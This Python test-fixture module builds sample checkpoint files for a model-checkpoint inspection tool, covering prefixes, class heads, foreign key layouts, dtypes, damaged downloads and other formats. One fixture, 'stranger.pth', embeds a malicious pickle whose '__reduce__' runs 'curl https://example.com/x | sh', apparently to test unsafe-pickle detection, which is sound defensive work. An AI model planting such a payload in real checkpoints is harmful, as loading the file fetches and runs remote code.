"""The files that the commands of README and docs work on, each under the name it has there.

They are made when a command first names them, from the real classes; most have no values, so that
they cost neither disk nor time.
"""

from __future__ import annotations

import gzip
import json
import shutil
import struct
import sys
import types
from argparse import Namespace
from collections import OrderedDict
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any
from unittest import mock

import numpy
import torch
from checkpoints_made import Held, State, cast, effdet, held, numbered, prefixed, write
from effdet import get_efficientdet_config
from effdet.anchors import Anchors

from ckptool.tensors import TensorSpec

FIXTURES = Path(__file__).parents[1] / "fixtures"
D0 = "tf_efficientdet_d0"
Make = Callable[[Path], object]


class _OsCommand:
    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, ("curl https://example.com/x | sh",)


def _d0(num_classes: int = 90, **config: Any) -> State:
    return held(effdet(D0, num_classes, **config))


def _saved(value: Any) -> Make:
    return lambda path: torch.save(value() if callable(value) else value, path)


def _written(state: Callable[[], State]) -> Make:
    return lambda path: write(state(), path, made=numbered(state()))


def _text(text: str) -> Make:
    return lambda path: path.write_text(text)


def _copy(path: Path) -> None:
    shutil.copyfile(FIXTURES / "d0.pth", path)


def _truncated(path: Path) -> None:
    path.write_bytes((FIXTURES / "d0.pth").read_bytes()[:5_000_000])


def _keys(name: str) -> State:
    """The key list of another implementation."""
    found: State = {}
    lines = gzip.decompress((FIXTURES / "dialects" / f"{name}.keys.gz").read_bytes()).decode()
    for line in lines.splitlines():
        key, dtype, lengths, *_ = line.split(" ")
        shape = () if lengths == "-" else tuple(map(int, lengths.split(",")))
        found[key] = Held(getattr(torch, dtype), shape)
    return found


def _specs(specs: Mapping[str, TensorSpec]) -> State:
    return {key: Held(getattr(torch, spec.dtype), spec.shape) for key, spec in specs.items()}


def _known(arch: str, num_classes: int | None = None) -> State:
    from ckptool.architectures import find

    return _specs(find(arch).manifest(num_classes))


def _lightning() -> Any:
    state = prefixed(_d0(20), "model.model.")
    weights = numbered(state)
    weights["model.anchors.boxes"] = Anchors.from_config(get_efficientdet_config(D0)).boxes
    return {
        "epoch": 12,
        "global_step": 40_000,
        "pytorch-lightning_version": "2.4.0",
        "state_dict": weights,
        "optimizer_states": [],
        "hyper_parameters": {"lr": 0.01},
    }


def _whole_module() -> Any:
    """A module that was pickled whole, by a project whose package is called `models`."""
    package, module = types.ModuleType("models"), types.ModuleType("models.yolo")

    class Model(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.model = torch.nn.Sequential(
                torch.nn.Conv2d(3, 16, 6, bias=False), torch.nn.BatchNorm2d(16)
            )

    Model.__module__, Model.__qualname__ = "models.yolo", "Model"
    module.Model = Model  # type: ignore[attr-defined]
    sys.modules |= {"models": package, "models.yolo": module}
    return {"epoch": -1, "model": Model().half(), "ema": None}


def _pickled(path: Path) -> None:
    try:
        torch.save(_whole_module(), path)
    finally:
        for name in ("models", "models.yolo"):
            sys.modules.pop(name, None)


def _timm() -> Any:
    raw, average = numbered(_d0()), numbered(_d0())
    return {"epoch": 3, "arch": D0, "state_dict": raw, "state_dict_ema": average}


def _mmengine() -> Any:
    average = numbered(_d0())
    raw = numbered(prefixed(_d0(), "module."))
    raw["steps"] = torch.tensor(40_000)
    message_hub = {"iter": 1}
    return {"meta": {}, "state_dict": average, "ema_state_dict": raw, "message_hub": message_hub}


def _with_variance(value: float) -> Any:
    state = numbered(_d0())
    for key in state:
        if key.endswith("running_var"):
            state[key] = torch.ones(state[key].shape)
    key = "backbone.blocks.1.0.bn2.running_var"
    state[key] = state[key].clone()
    state[key][:3] = value
    return state


def _tiny_darknet(path: Path) -> None:
    from ckptool.architectures import find

    count = sum(
        spec.numel
        for key, spec in find("yolov4-tiny").specs.items()
        if "num_batches_tracked" not in key
    )
    with path.open("wb") as file:
        file.write(struct.pack("<3iQ", 0, 2, 5, 32_013_312))
        file.truncate(20 + 4 * count)


def _detectron2(path: Path) -> None:
    import pickle

    state = {
        key: numpy.broadcast_to(numpy.zeros((), value.dtype.__str__()[6:]), value.shape)
        for key, value in _known("detectron2:retinanet_R_50_FPN_3x").items()
    }
    path.write_bytes(pickle.dumps({"model": state, "__author__": "Detectron2 Model Zoo"}))


def _without(state: State, part: str) -> State:
    return {key: value for key, value in state.items() if part not in key}


def _tuned() -> Any:
    """The weights of `d0.pth` with another class head."""
    saved = torch.load(FIXTURES / "d0.pth", weights_only=False)["state_dict"]
    head = "module.class_net.predict."
    return {key: value * 1.25 if key.startswith(head) else value for key, value in saved.items()}


def _from_gpu(path: Path) -> None:
    with mock.patch("torch.serialization.location_tag", return_value="cuda:0"):
        torch.save(numbered(_d0()), path)


def _with_optimizer() -> Any:
    weights = numbered(_d0())
    moments = {
        n: {"exp_avg": torch.zeros(value.shape), "exp_avg_sq": torch.zeros(value.shape)}
        for n, value in enumerate(weights.values())
    }
    groups = [{"lr": 0.01, "params": list(moments)}]
    return {
        "model_state_dict": weights,
        "optimizer_state_dict": {"state": moments, "param_groups": groups},
    }


def _tied() -> Any:
    model = torch.nn.Sequential(torch.nn.Embedding(50, 8), torch.nn.Linear(8, 50, bias=False))
    model[1].weight = model[0].weight
    return model.state_dict()


def _turned() -> Any:
    return {"conv.weight": torch.zeros(8, 3, 3, 3).to(memory_format=torch.channels_last)}


def _coco(path: Path) -> None:
    """Three categories with the ids of two data sets; one box reaches over the edge."""
    boxes = {1: 40, 7: 12, 93: 5}
    names = {1: "person", 7: "truck", 93: "helmet"}
    kinds = [number for number, count in boxes.items() for _ in range(count)]
    found = [
        {
            "id": at,
            "image_id": 1,
            "category_id": kind,
            "bbox": [10.0 * at, 5.0 * at, 30.0 + 2 * at, 40.0],
            "area": 40.0 * (30 + 2 * at),
            "iscrowd": 0,
        }
        for at, kind in enumerate(kinds, 1)
    ]
    found[-1]["bbox"] = [600.0, 10.0, 60.0, 40.0]
    document = {
        "images": [{"id": 1, "file_name": "1.jpg", "width": 640, "height": 480}],
        "categories": [{"id": number, "name": name} for number, name in names.items()],
        "annotations": found,
    }
    path.write_text(json.dumps(document))


def _house(path: Path) -> None:
    """The format that `docs/extending.md` describes: tensors without values."""
    header = json.dumps([[k, str(v.dtype)[6:], v.shape] for k, v in _d0(20).items()]).encode()
    nbytes = sum(
        value.dtype.itemsize * torch.Size(value.shape).numel() for value in _d0(20).values()
    )
    with path.open("wb") as file:
        file.write(b"HOUSE" + len(header).to_bytes(4, "little") + header)
        file.truncate(9 + len(header) + nbytes)


def _ours() -> Any:
    modules = {"stem": torch.nn.Conv2d(3, 32, 3), "head": torch.nn.Conv2d(32, 240, 1)}
    return torch.nn.Sequential(OrderedDict(modules)).state_dict()


_LFS = (
    "version https://git-lfs.github.com/spec/v1\n"
    "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
    "size 15824413\n"
)
_HTML = "<!DOCTYPE html><html><head><title>Google Drive - Virus scan warning</title></head></html>"

FILES: dict[str, Make] = {
    # what the README and extending.md work on
    "weights.pth": _copy,
    "d0.pth": _copy,
    # prefixes
    "ddp.pth": _written(lambda: prefixed(_d0(), "module.")),
    "compiled.pth": _written(lambda: prefixed(_d0(), "_orig_mod.")),
    "epoch12.ckpt": _saved(_lightning),
    # heads
    "coco.pth": _written(_d0),
    "voc.pth": _written(lambda: _d0(20)),
    "fasterrcnn.pth": _written(lambda: _known("torchvision:fasterrcnn_resnet50_fpn")),
    # pickles
    "run.pth": _saved(lambda: {"args": Namespace(lr=0.01), "state_dict": numbered(_d0())}),
    "yolo.pt": _pickled,
    "stranger.pth": _saved(lambda: {"state_dict": numbered(_d0()), "extra": _OsCommand()}),
    # dialects
    "yolov4_old.pth": _written(lambda: _keys("tianxiaomo-neek@yolov4")),
    "efficientdet-d0.pth": _written(lambda: _keys("zylo117@tf_efficientdet_d0")),
    "yolov4-tiny.weights": _tiny_darknet,
    "model_final.pkl": _detectron2,
    # averages
    "timm.pth.tar": _saved(_timm),
    "mmengine.pth": _saved(_mmengine),
    # dtypes and values
    "wide.pth": _saved(lambda: _with_variance(81_920.0)),
    "half.pth": _written(lambda: cast(_d0(), torch.float16)),
    "tuned.pth": _saved(_tuned),
    # another network than asked for
    "d2.pth": _written(lambda: held(effdet("tf_efficientdet_d2"))),
    "d6.pth": _written(lambda: held(effdet("tf_efficientdet_d6"))),
    "backbone.pth": _written(lambda: {k: v for k, v in _d0().items() if k[:4] == "back"}),
    "tf_biases.pth": _written(lambda: held(effdet("efficientdet_d0", redundant_bias=True))),
    "d7_old.pth": _written(lambda: held(effdet("tf_efficientdet_d7", head_bn_level_first=True))),
    "no_counters.pth": _written(lambda: _without(_d0(), "num_batches_tracked")),
    # files that are no checkpoints, or damaged
    "download.pth": _text(_HTML),
    "pointer.pth": _text(_LFS),
    "half_a_download.pth": _truncated,
    "renamed.safetensors": _copy,
    # sizes, sharing, devices
    "gpu.pth": _from_gpu,
    "training.pth": _saved(_with_optimizer),
    "tied.pth": _saved(_tied),
    "turned.pth": _saved(_turned),
    "train.json": _coco,
    # what extending.md adds support for
    "run.house": _house,
    "ours.pth": _saved(_ours),
}
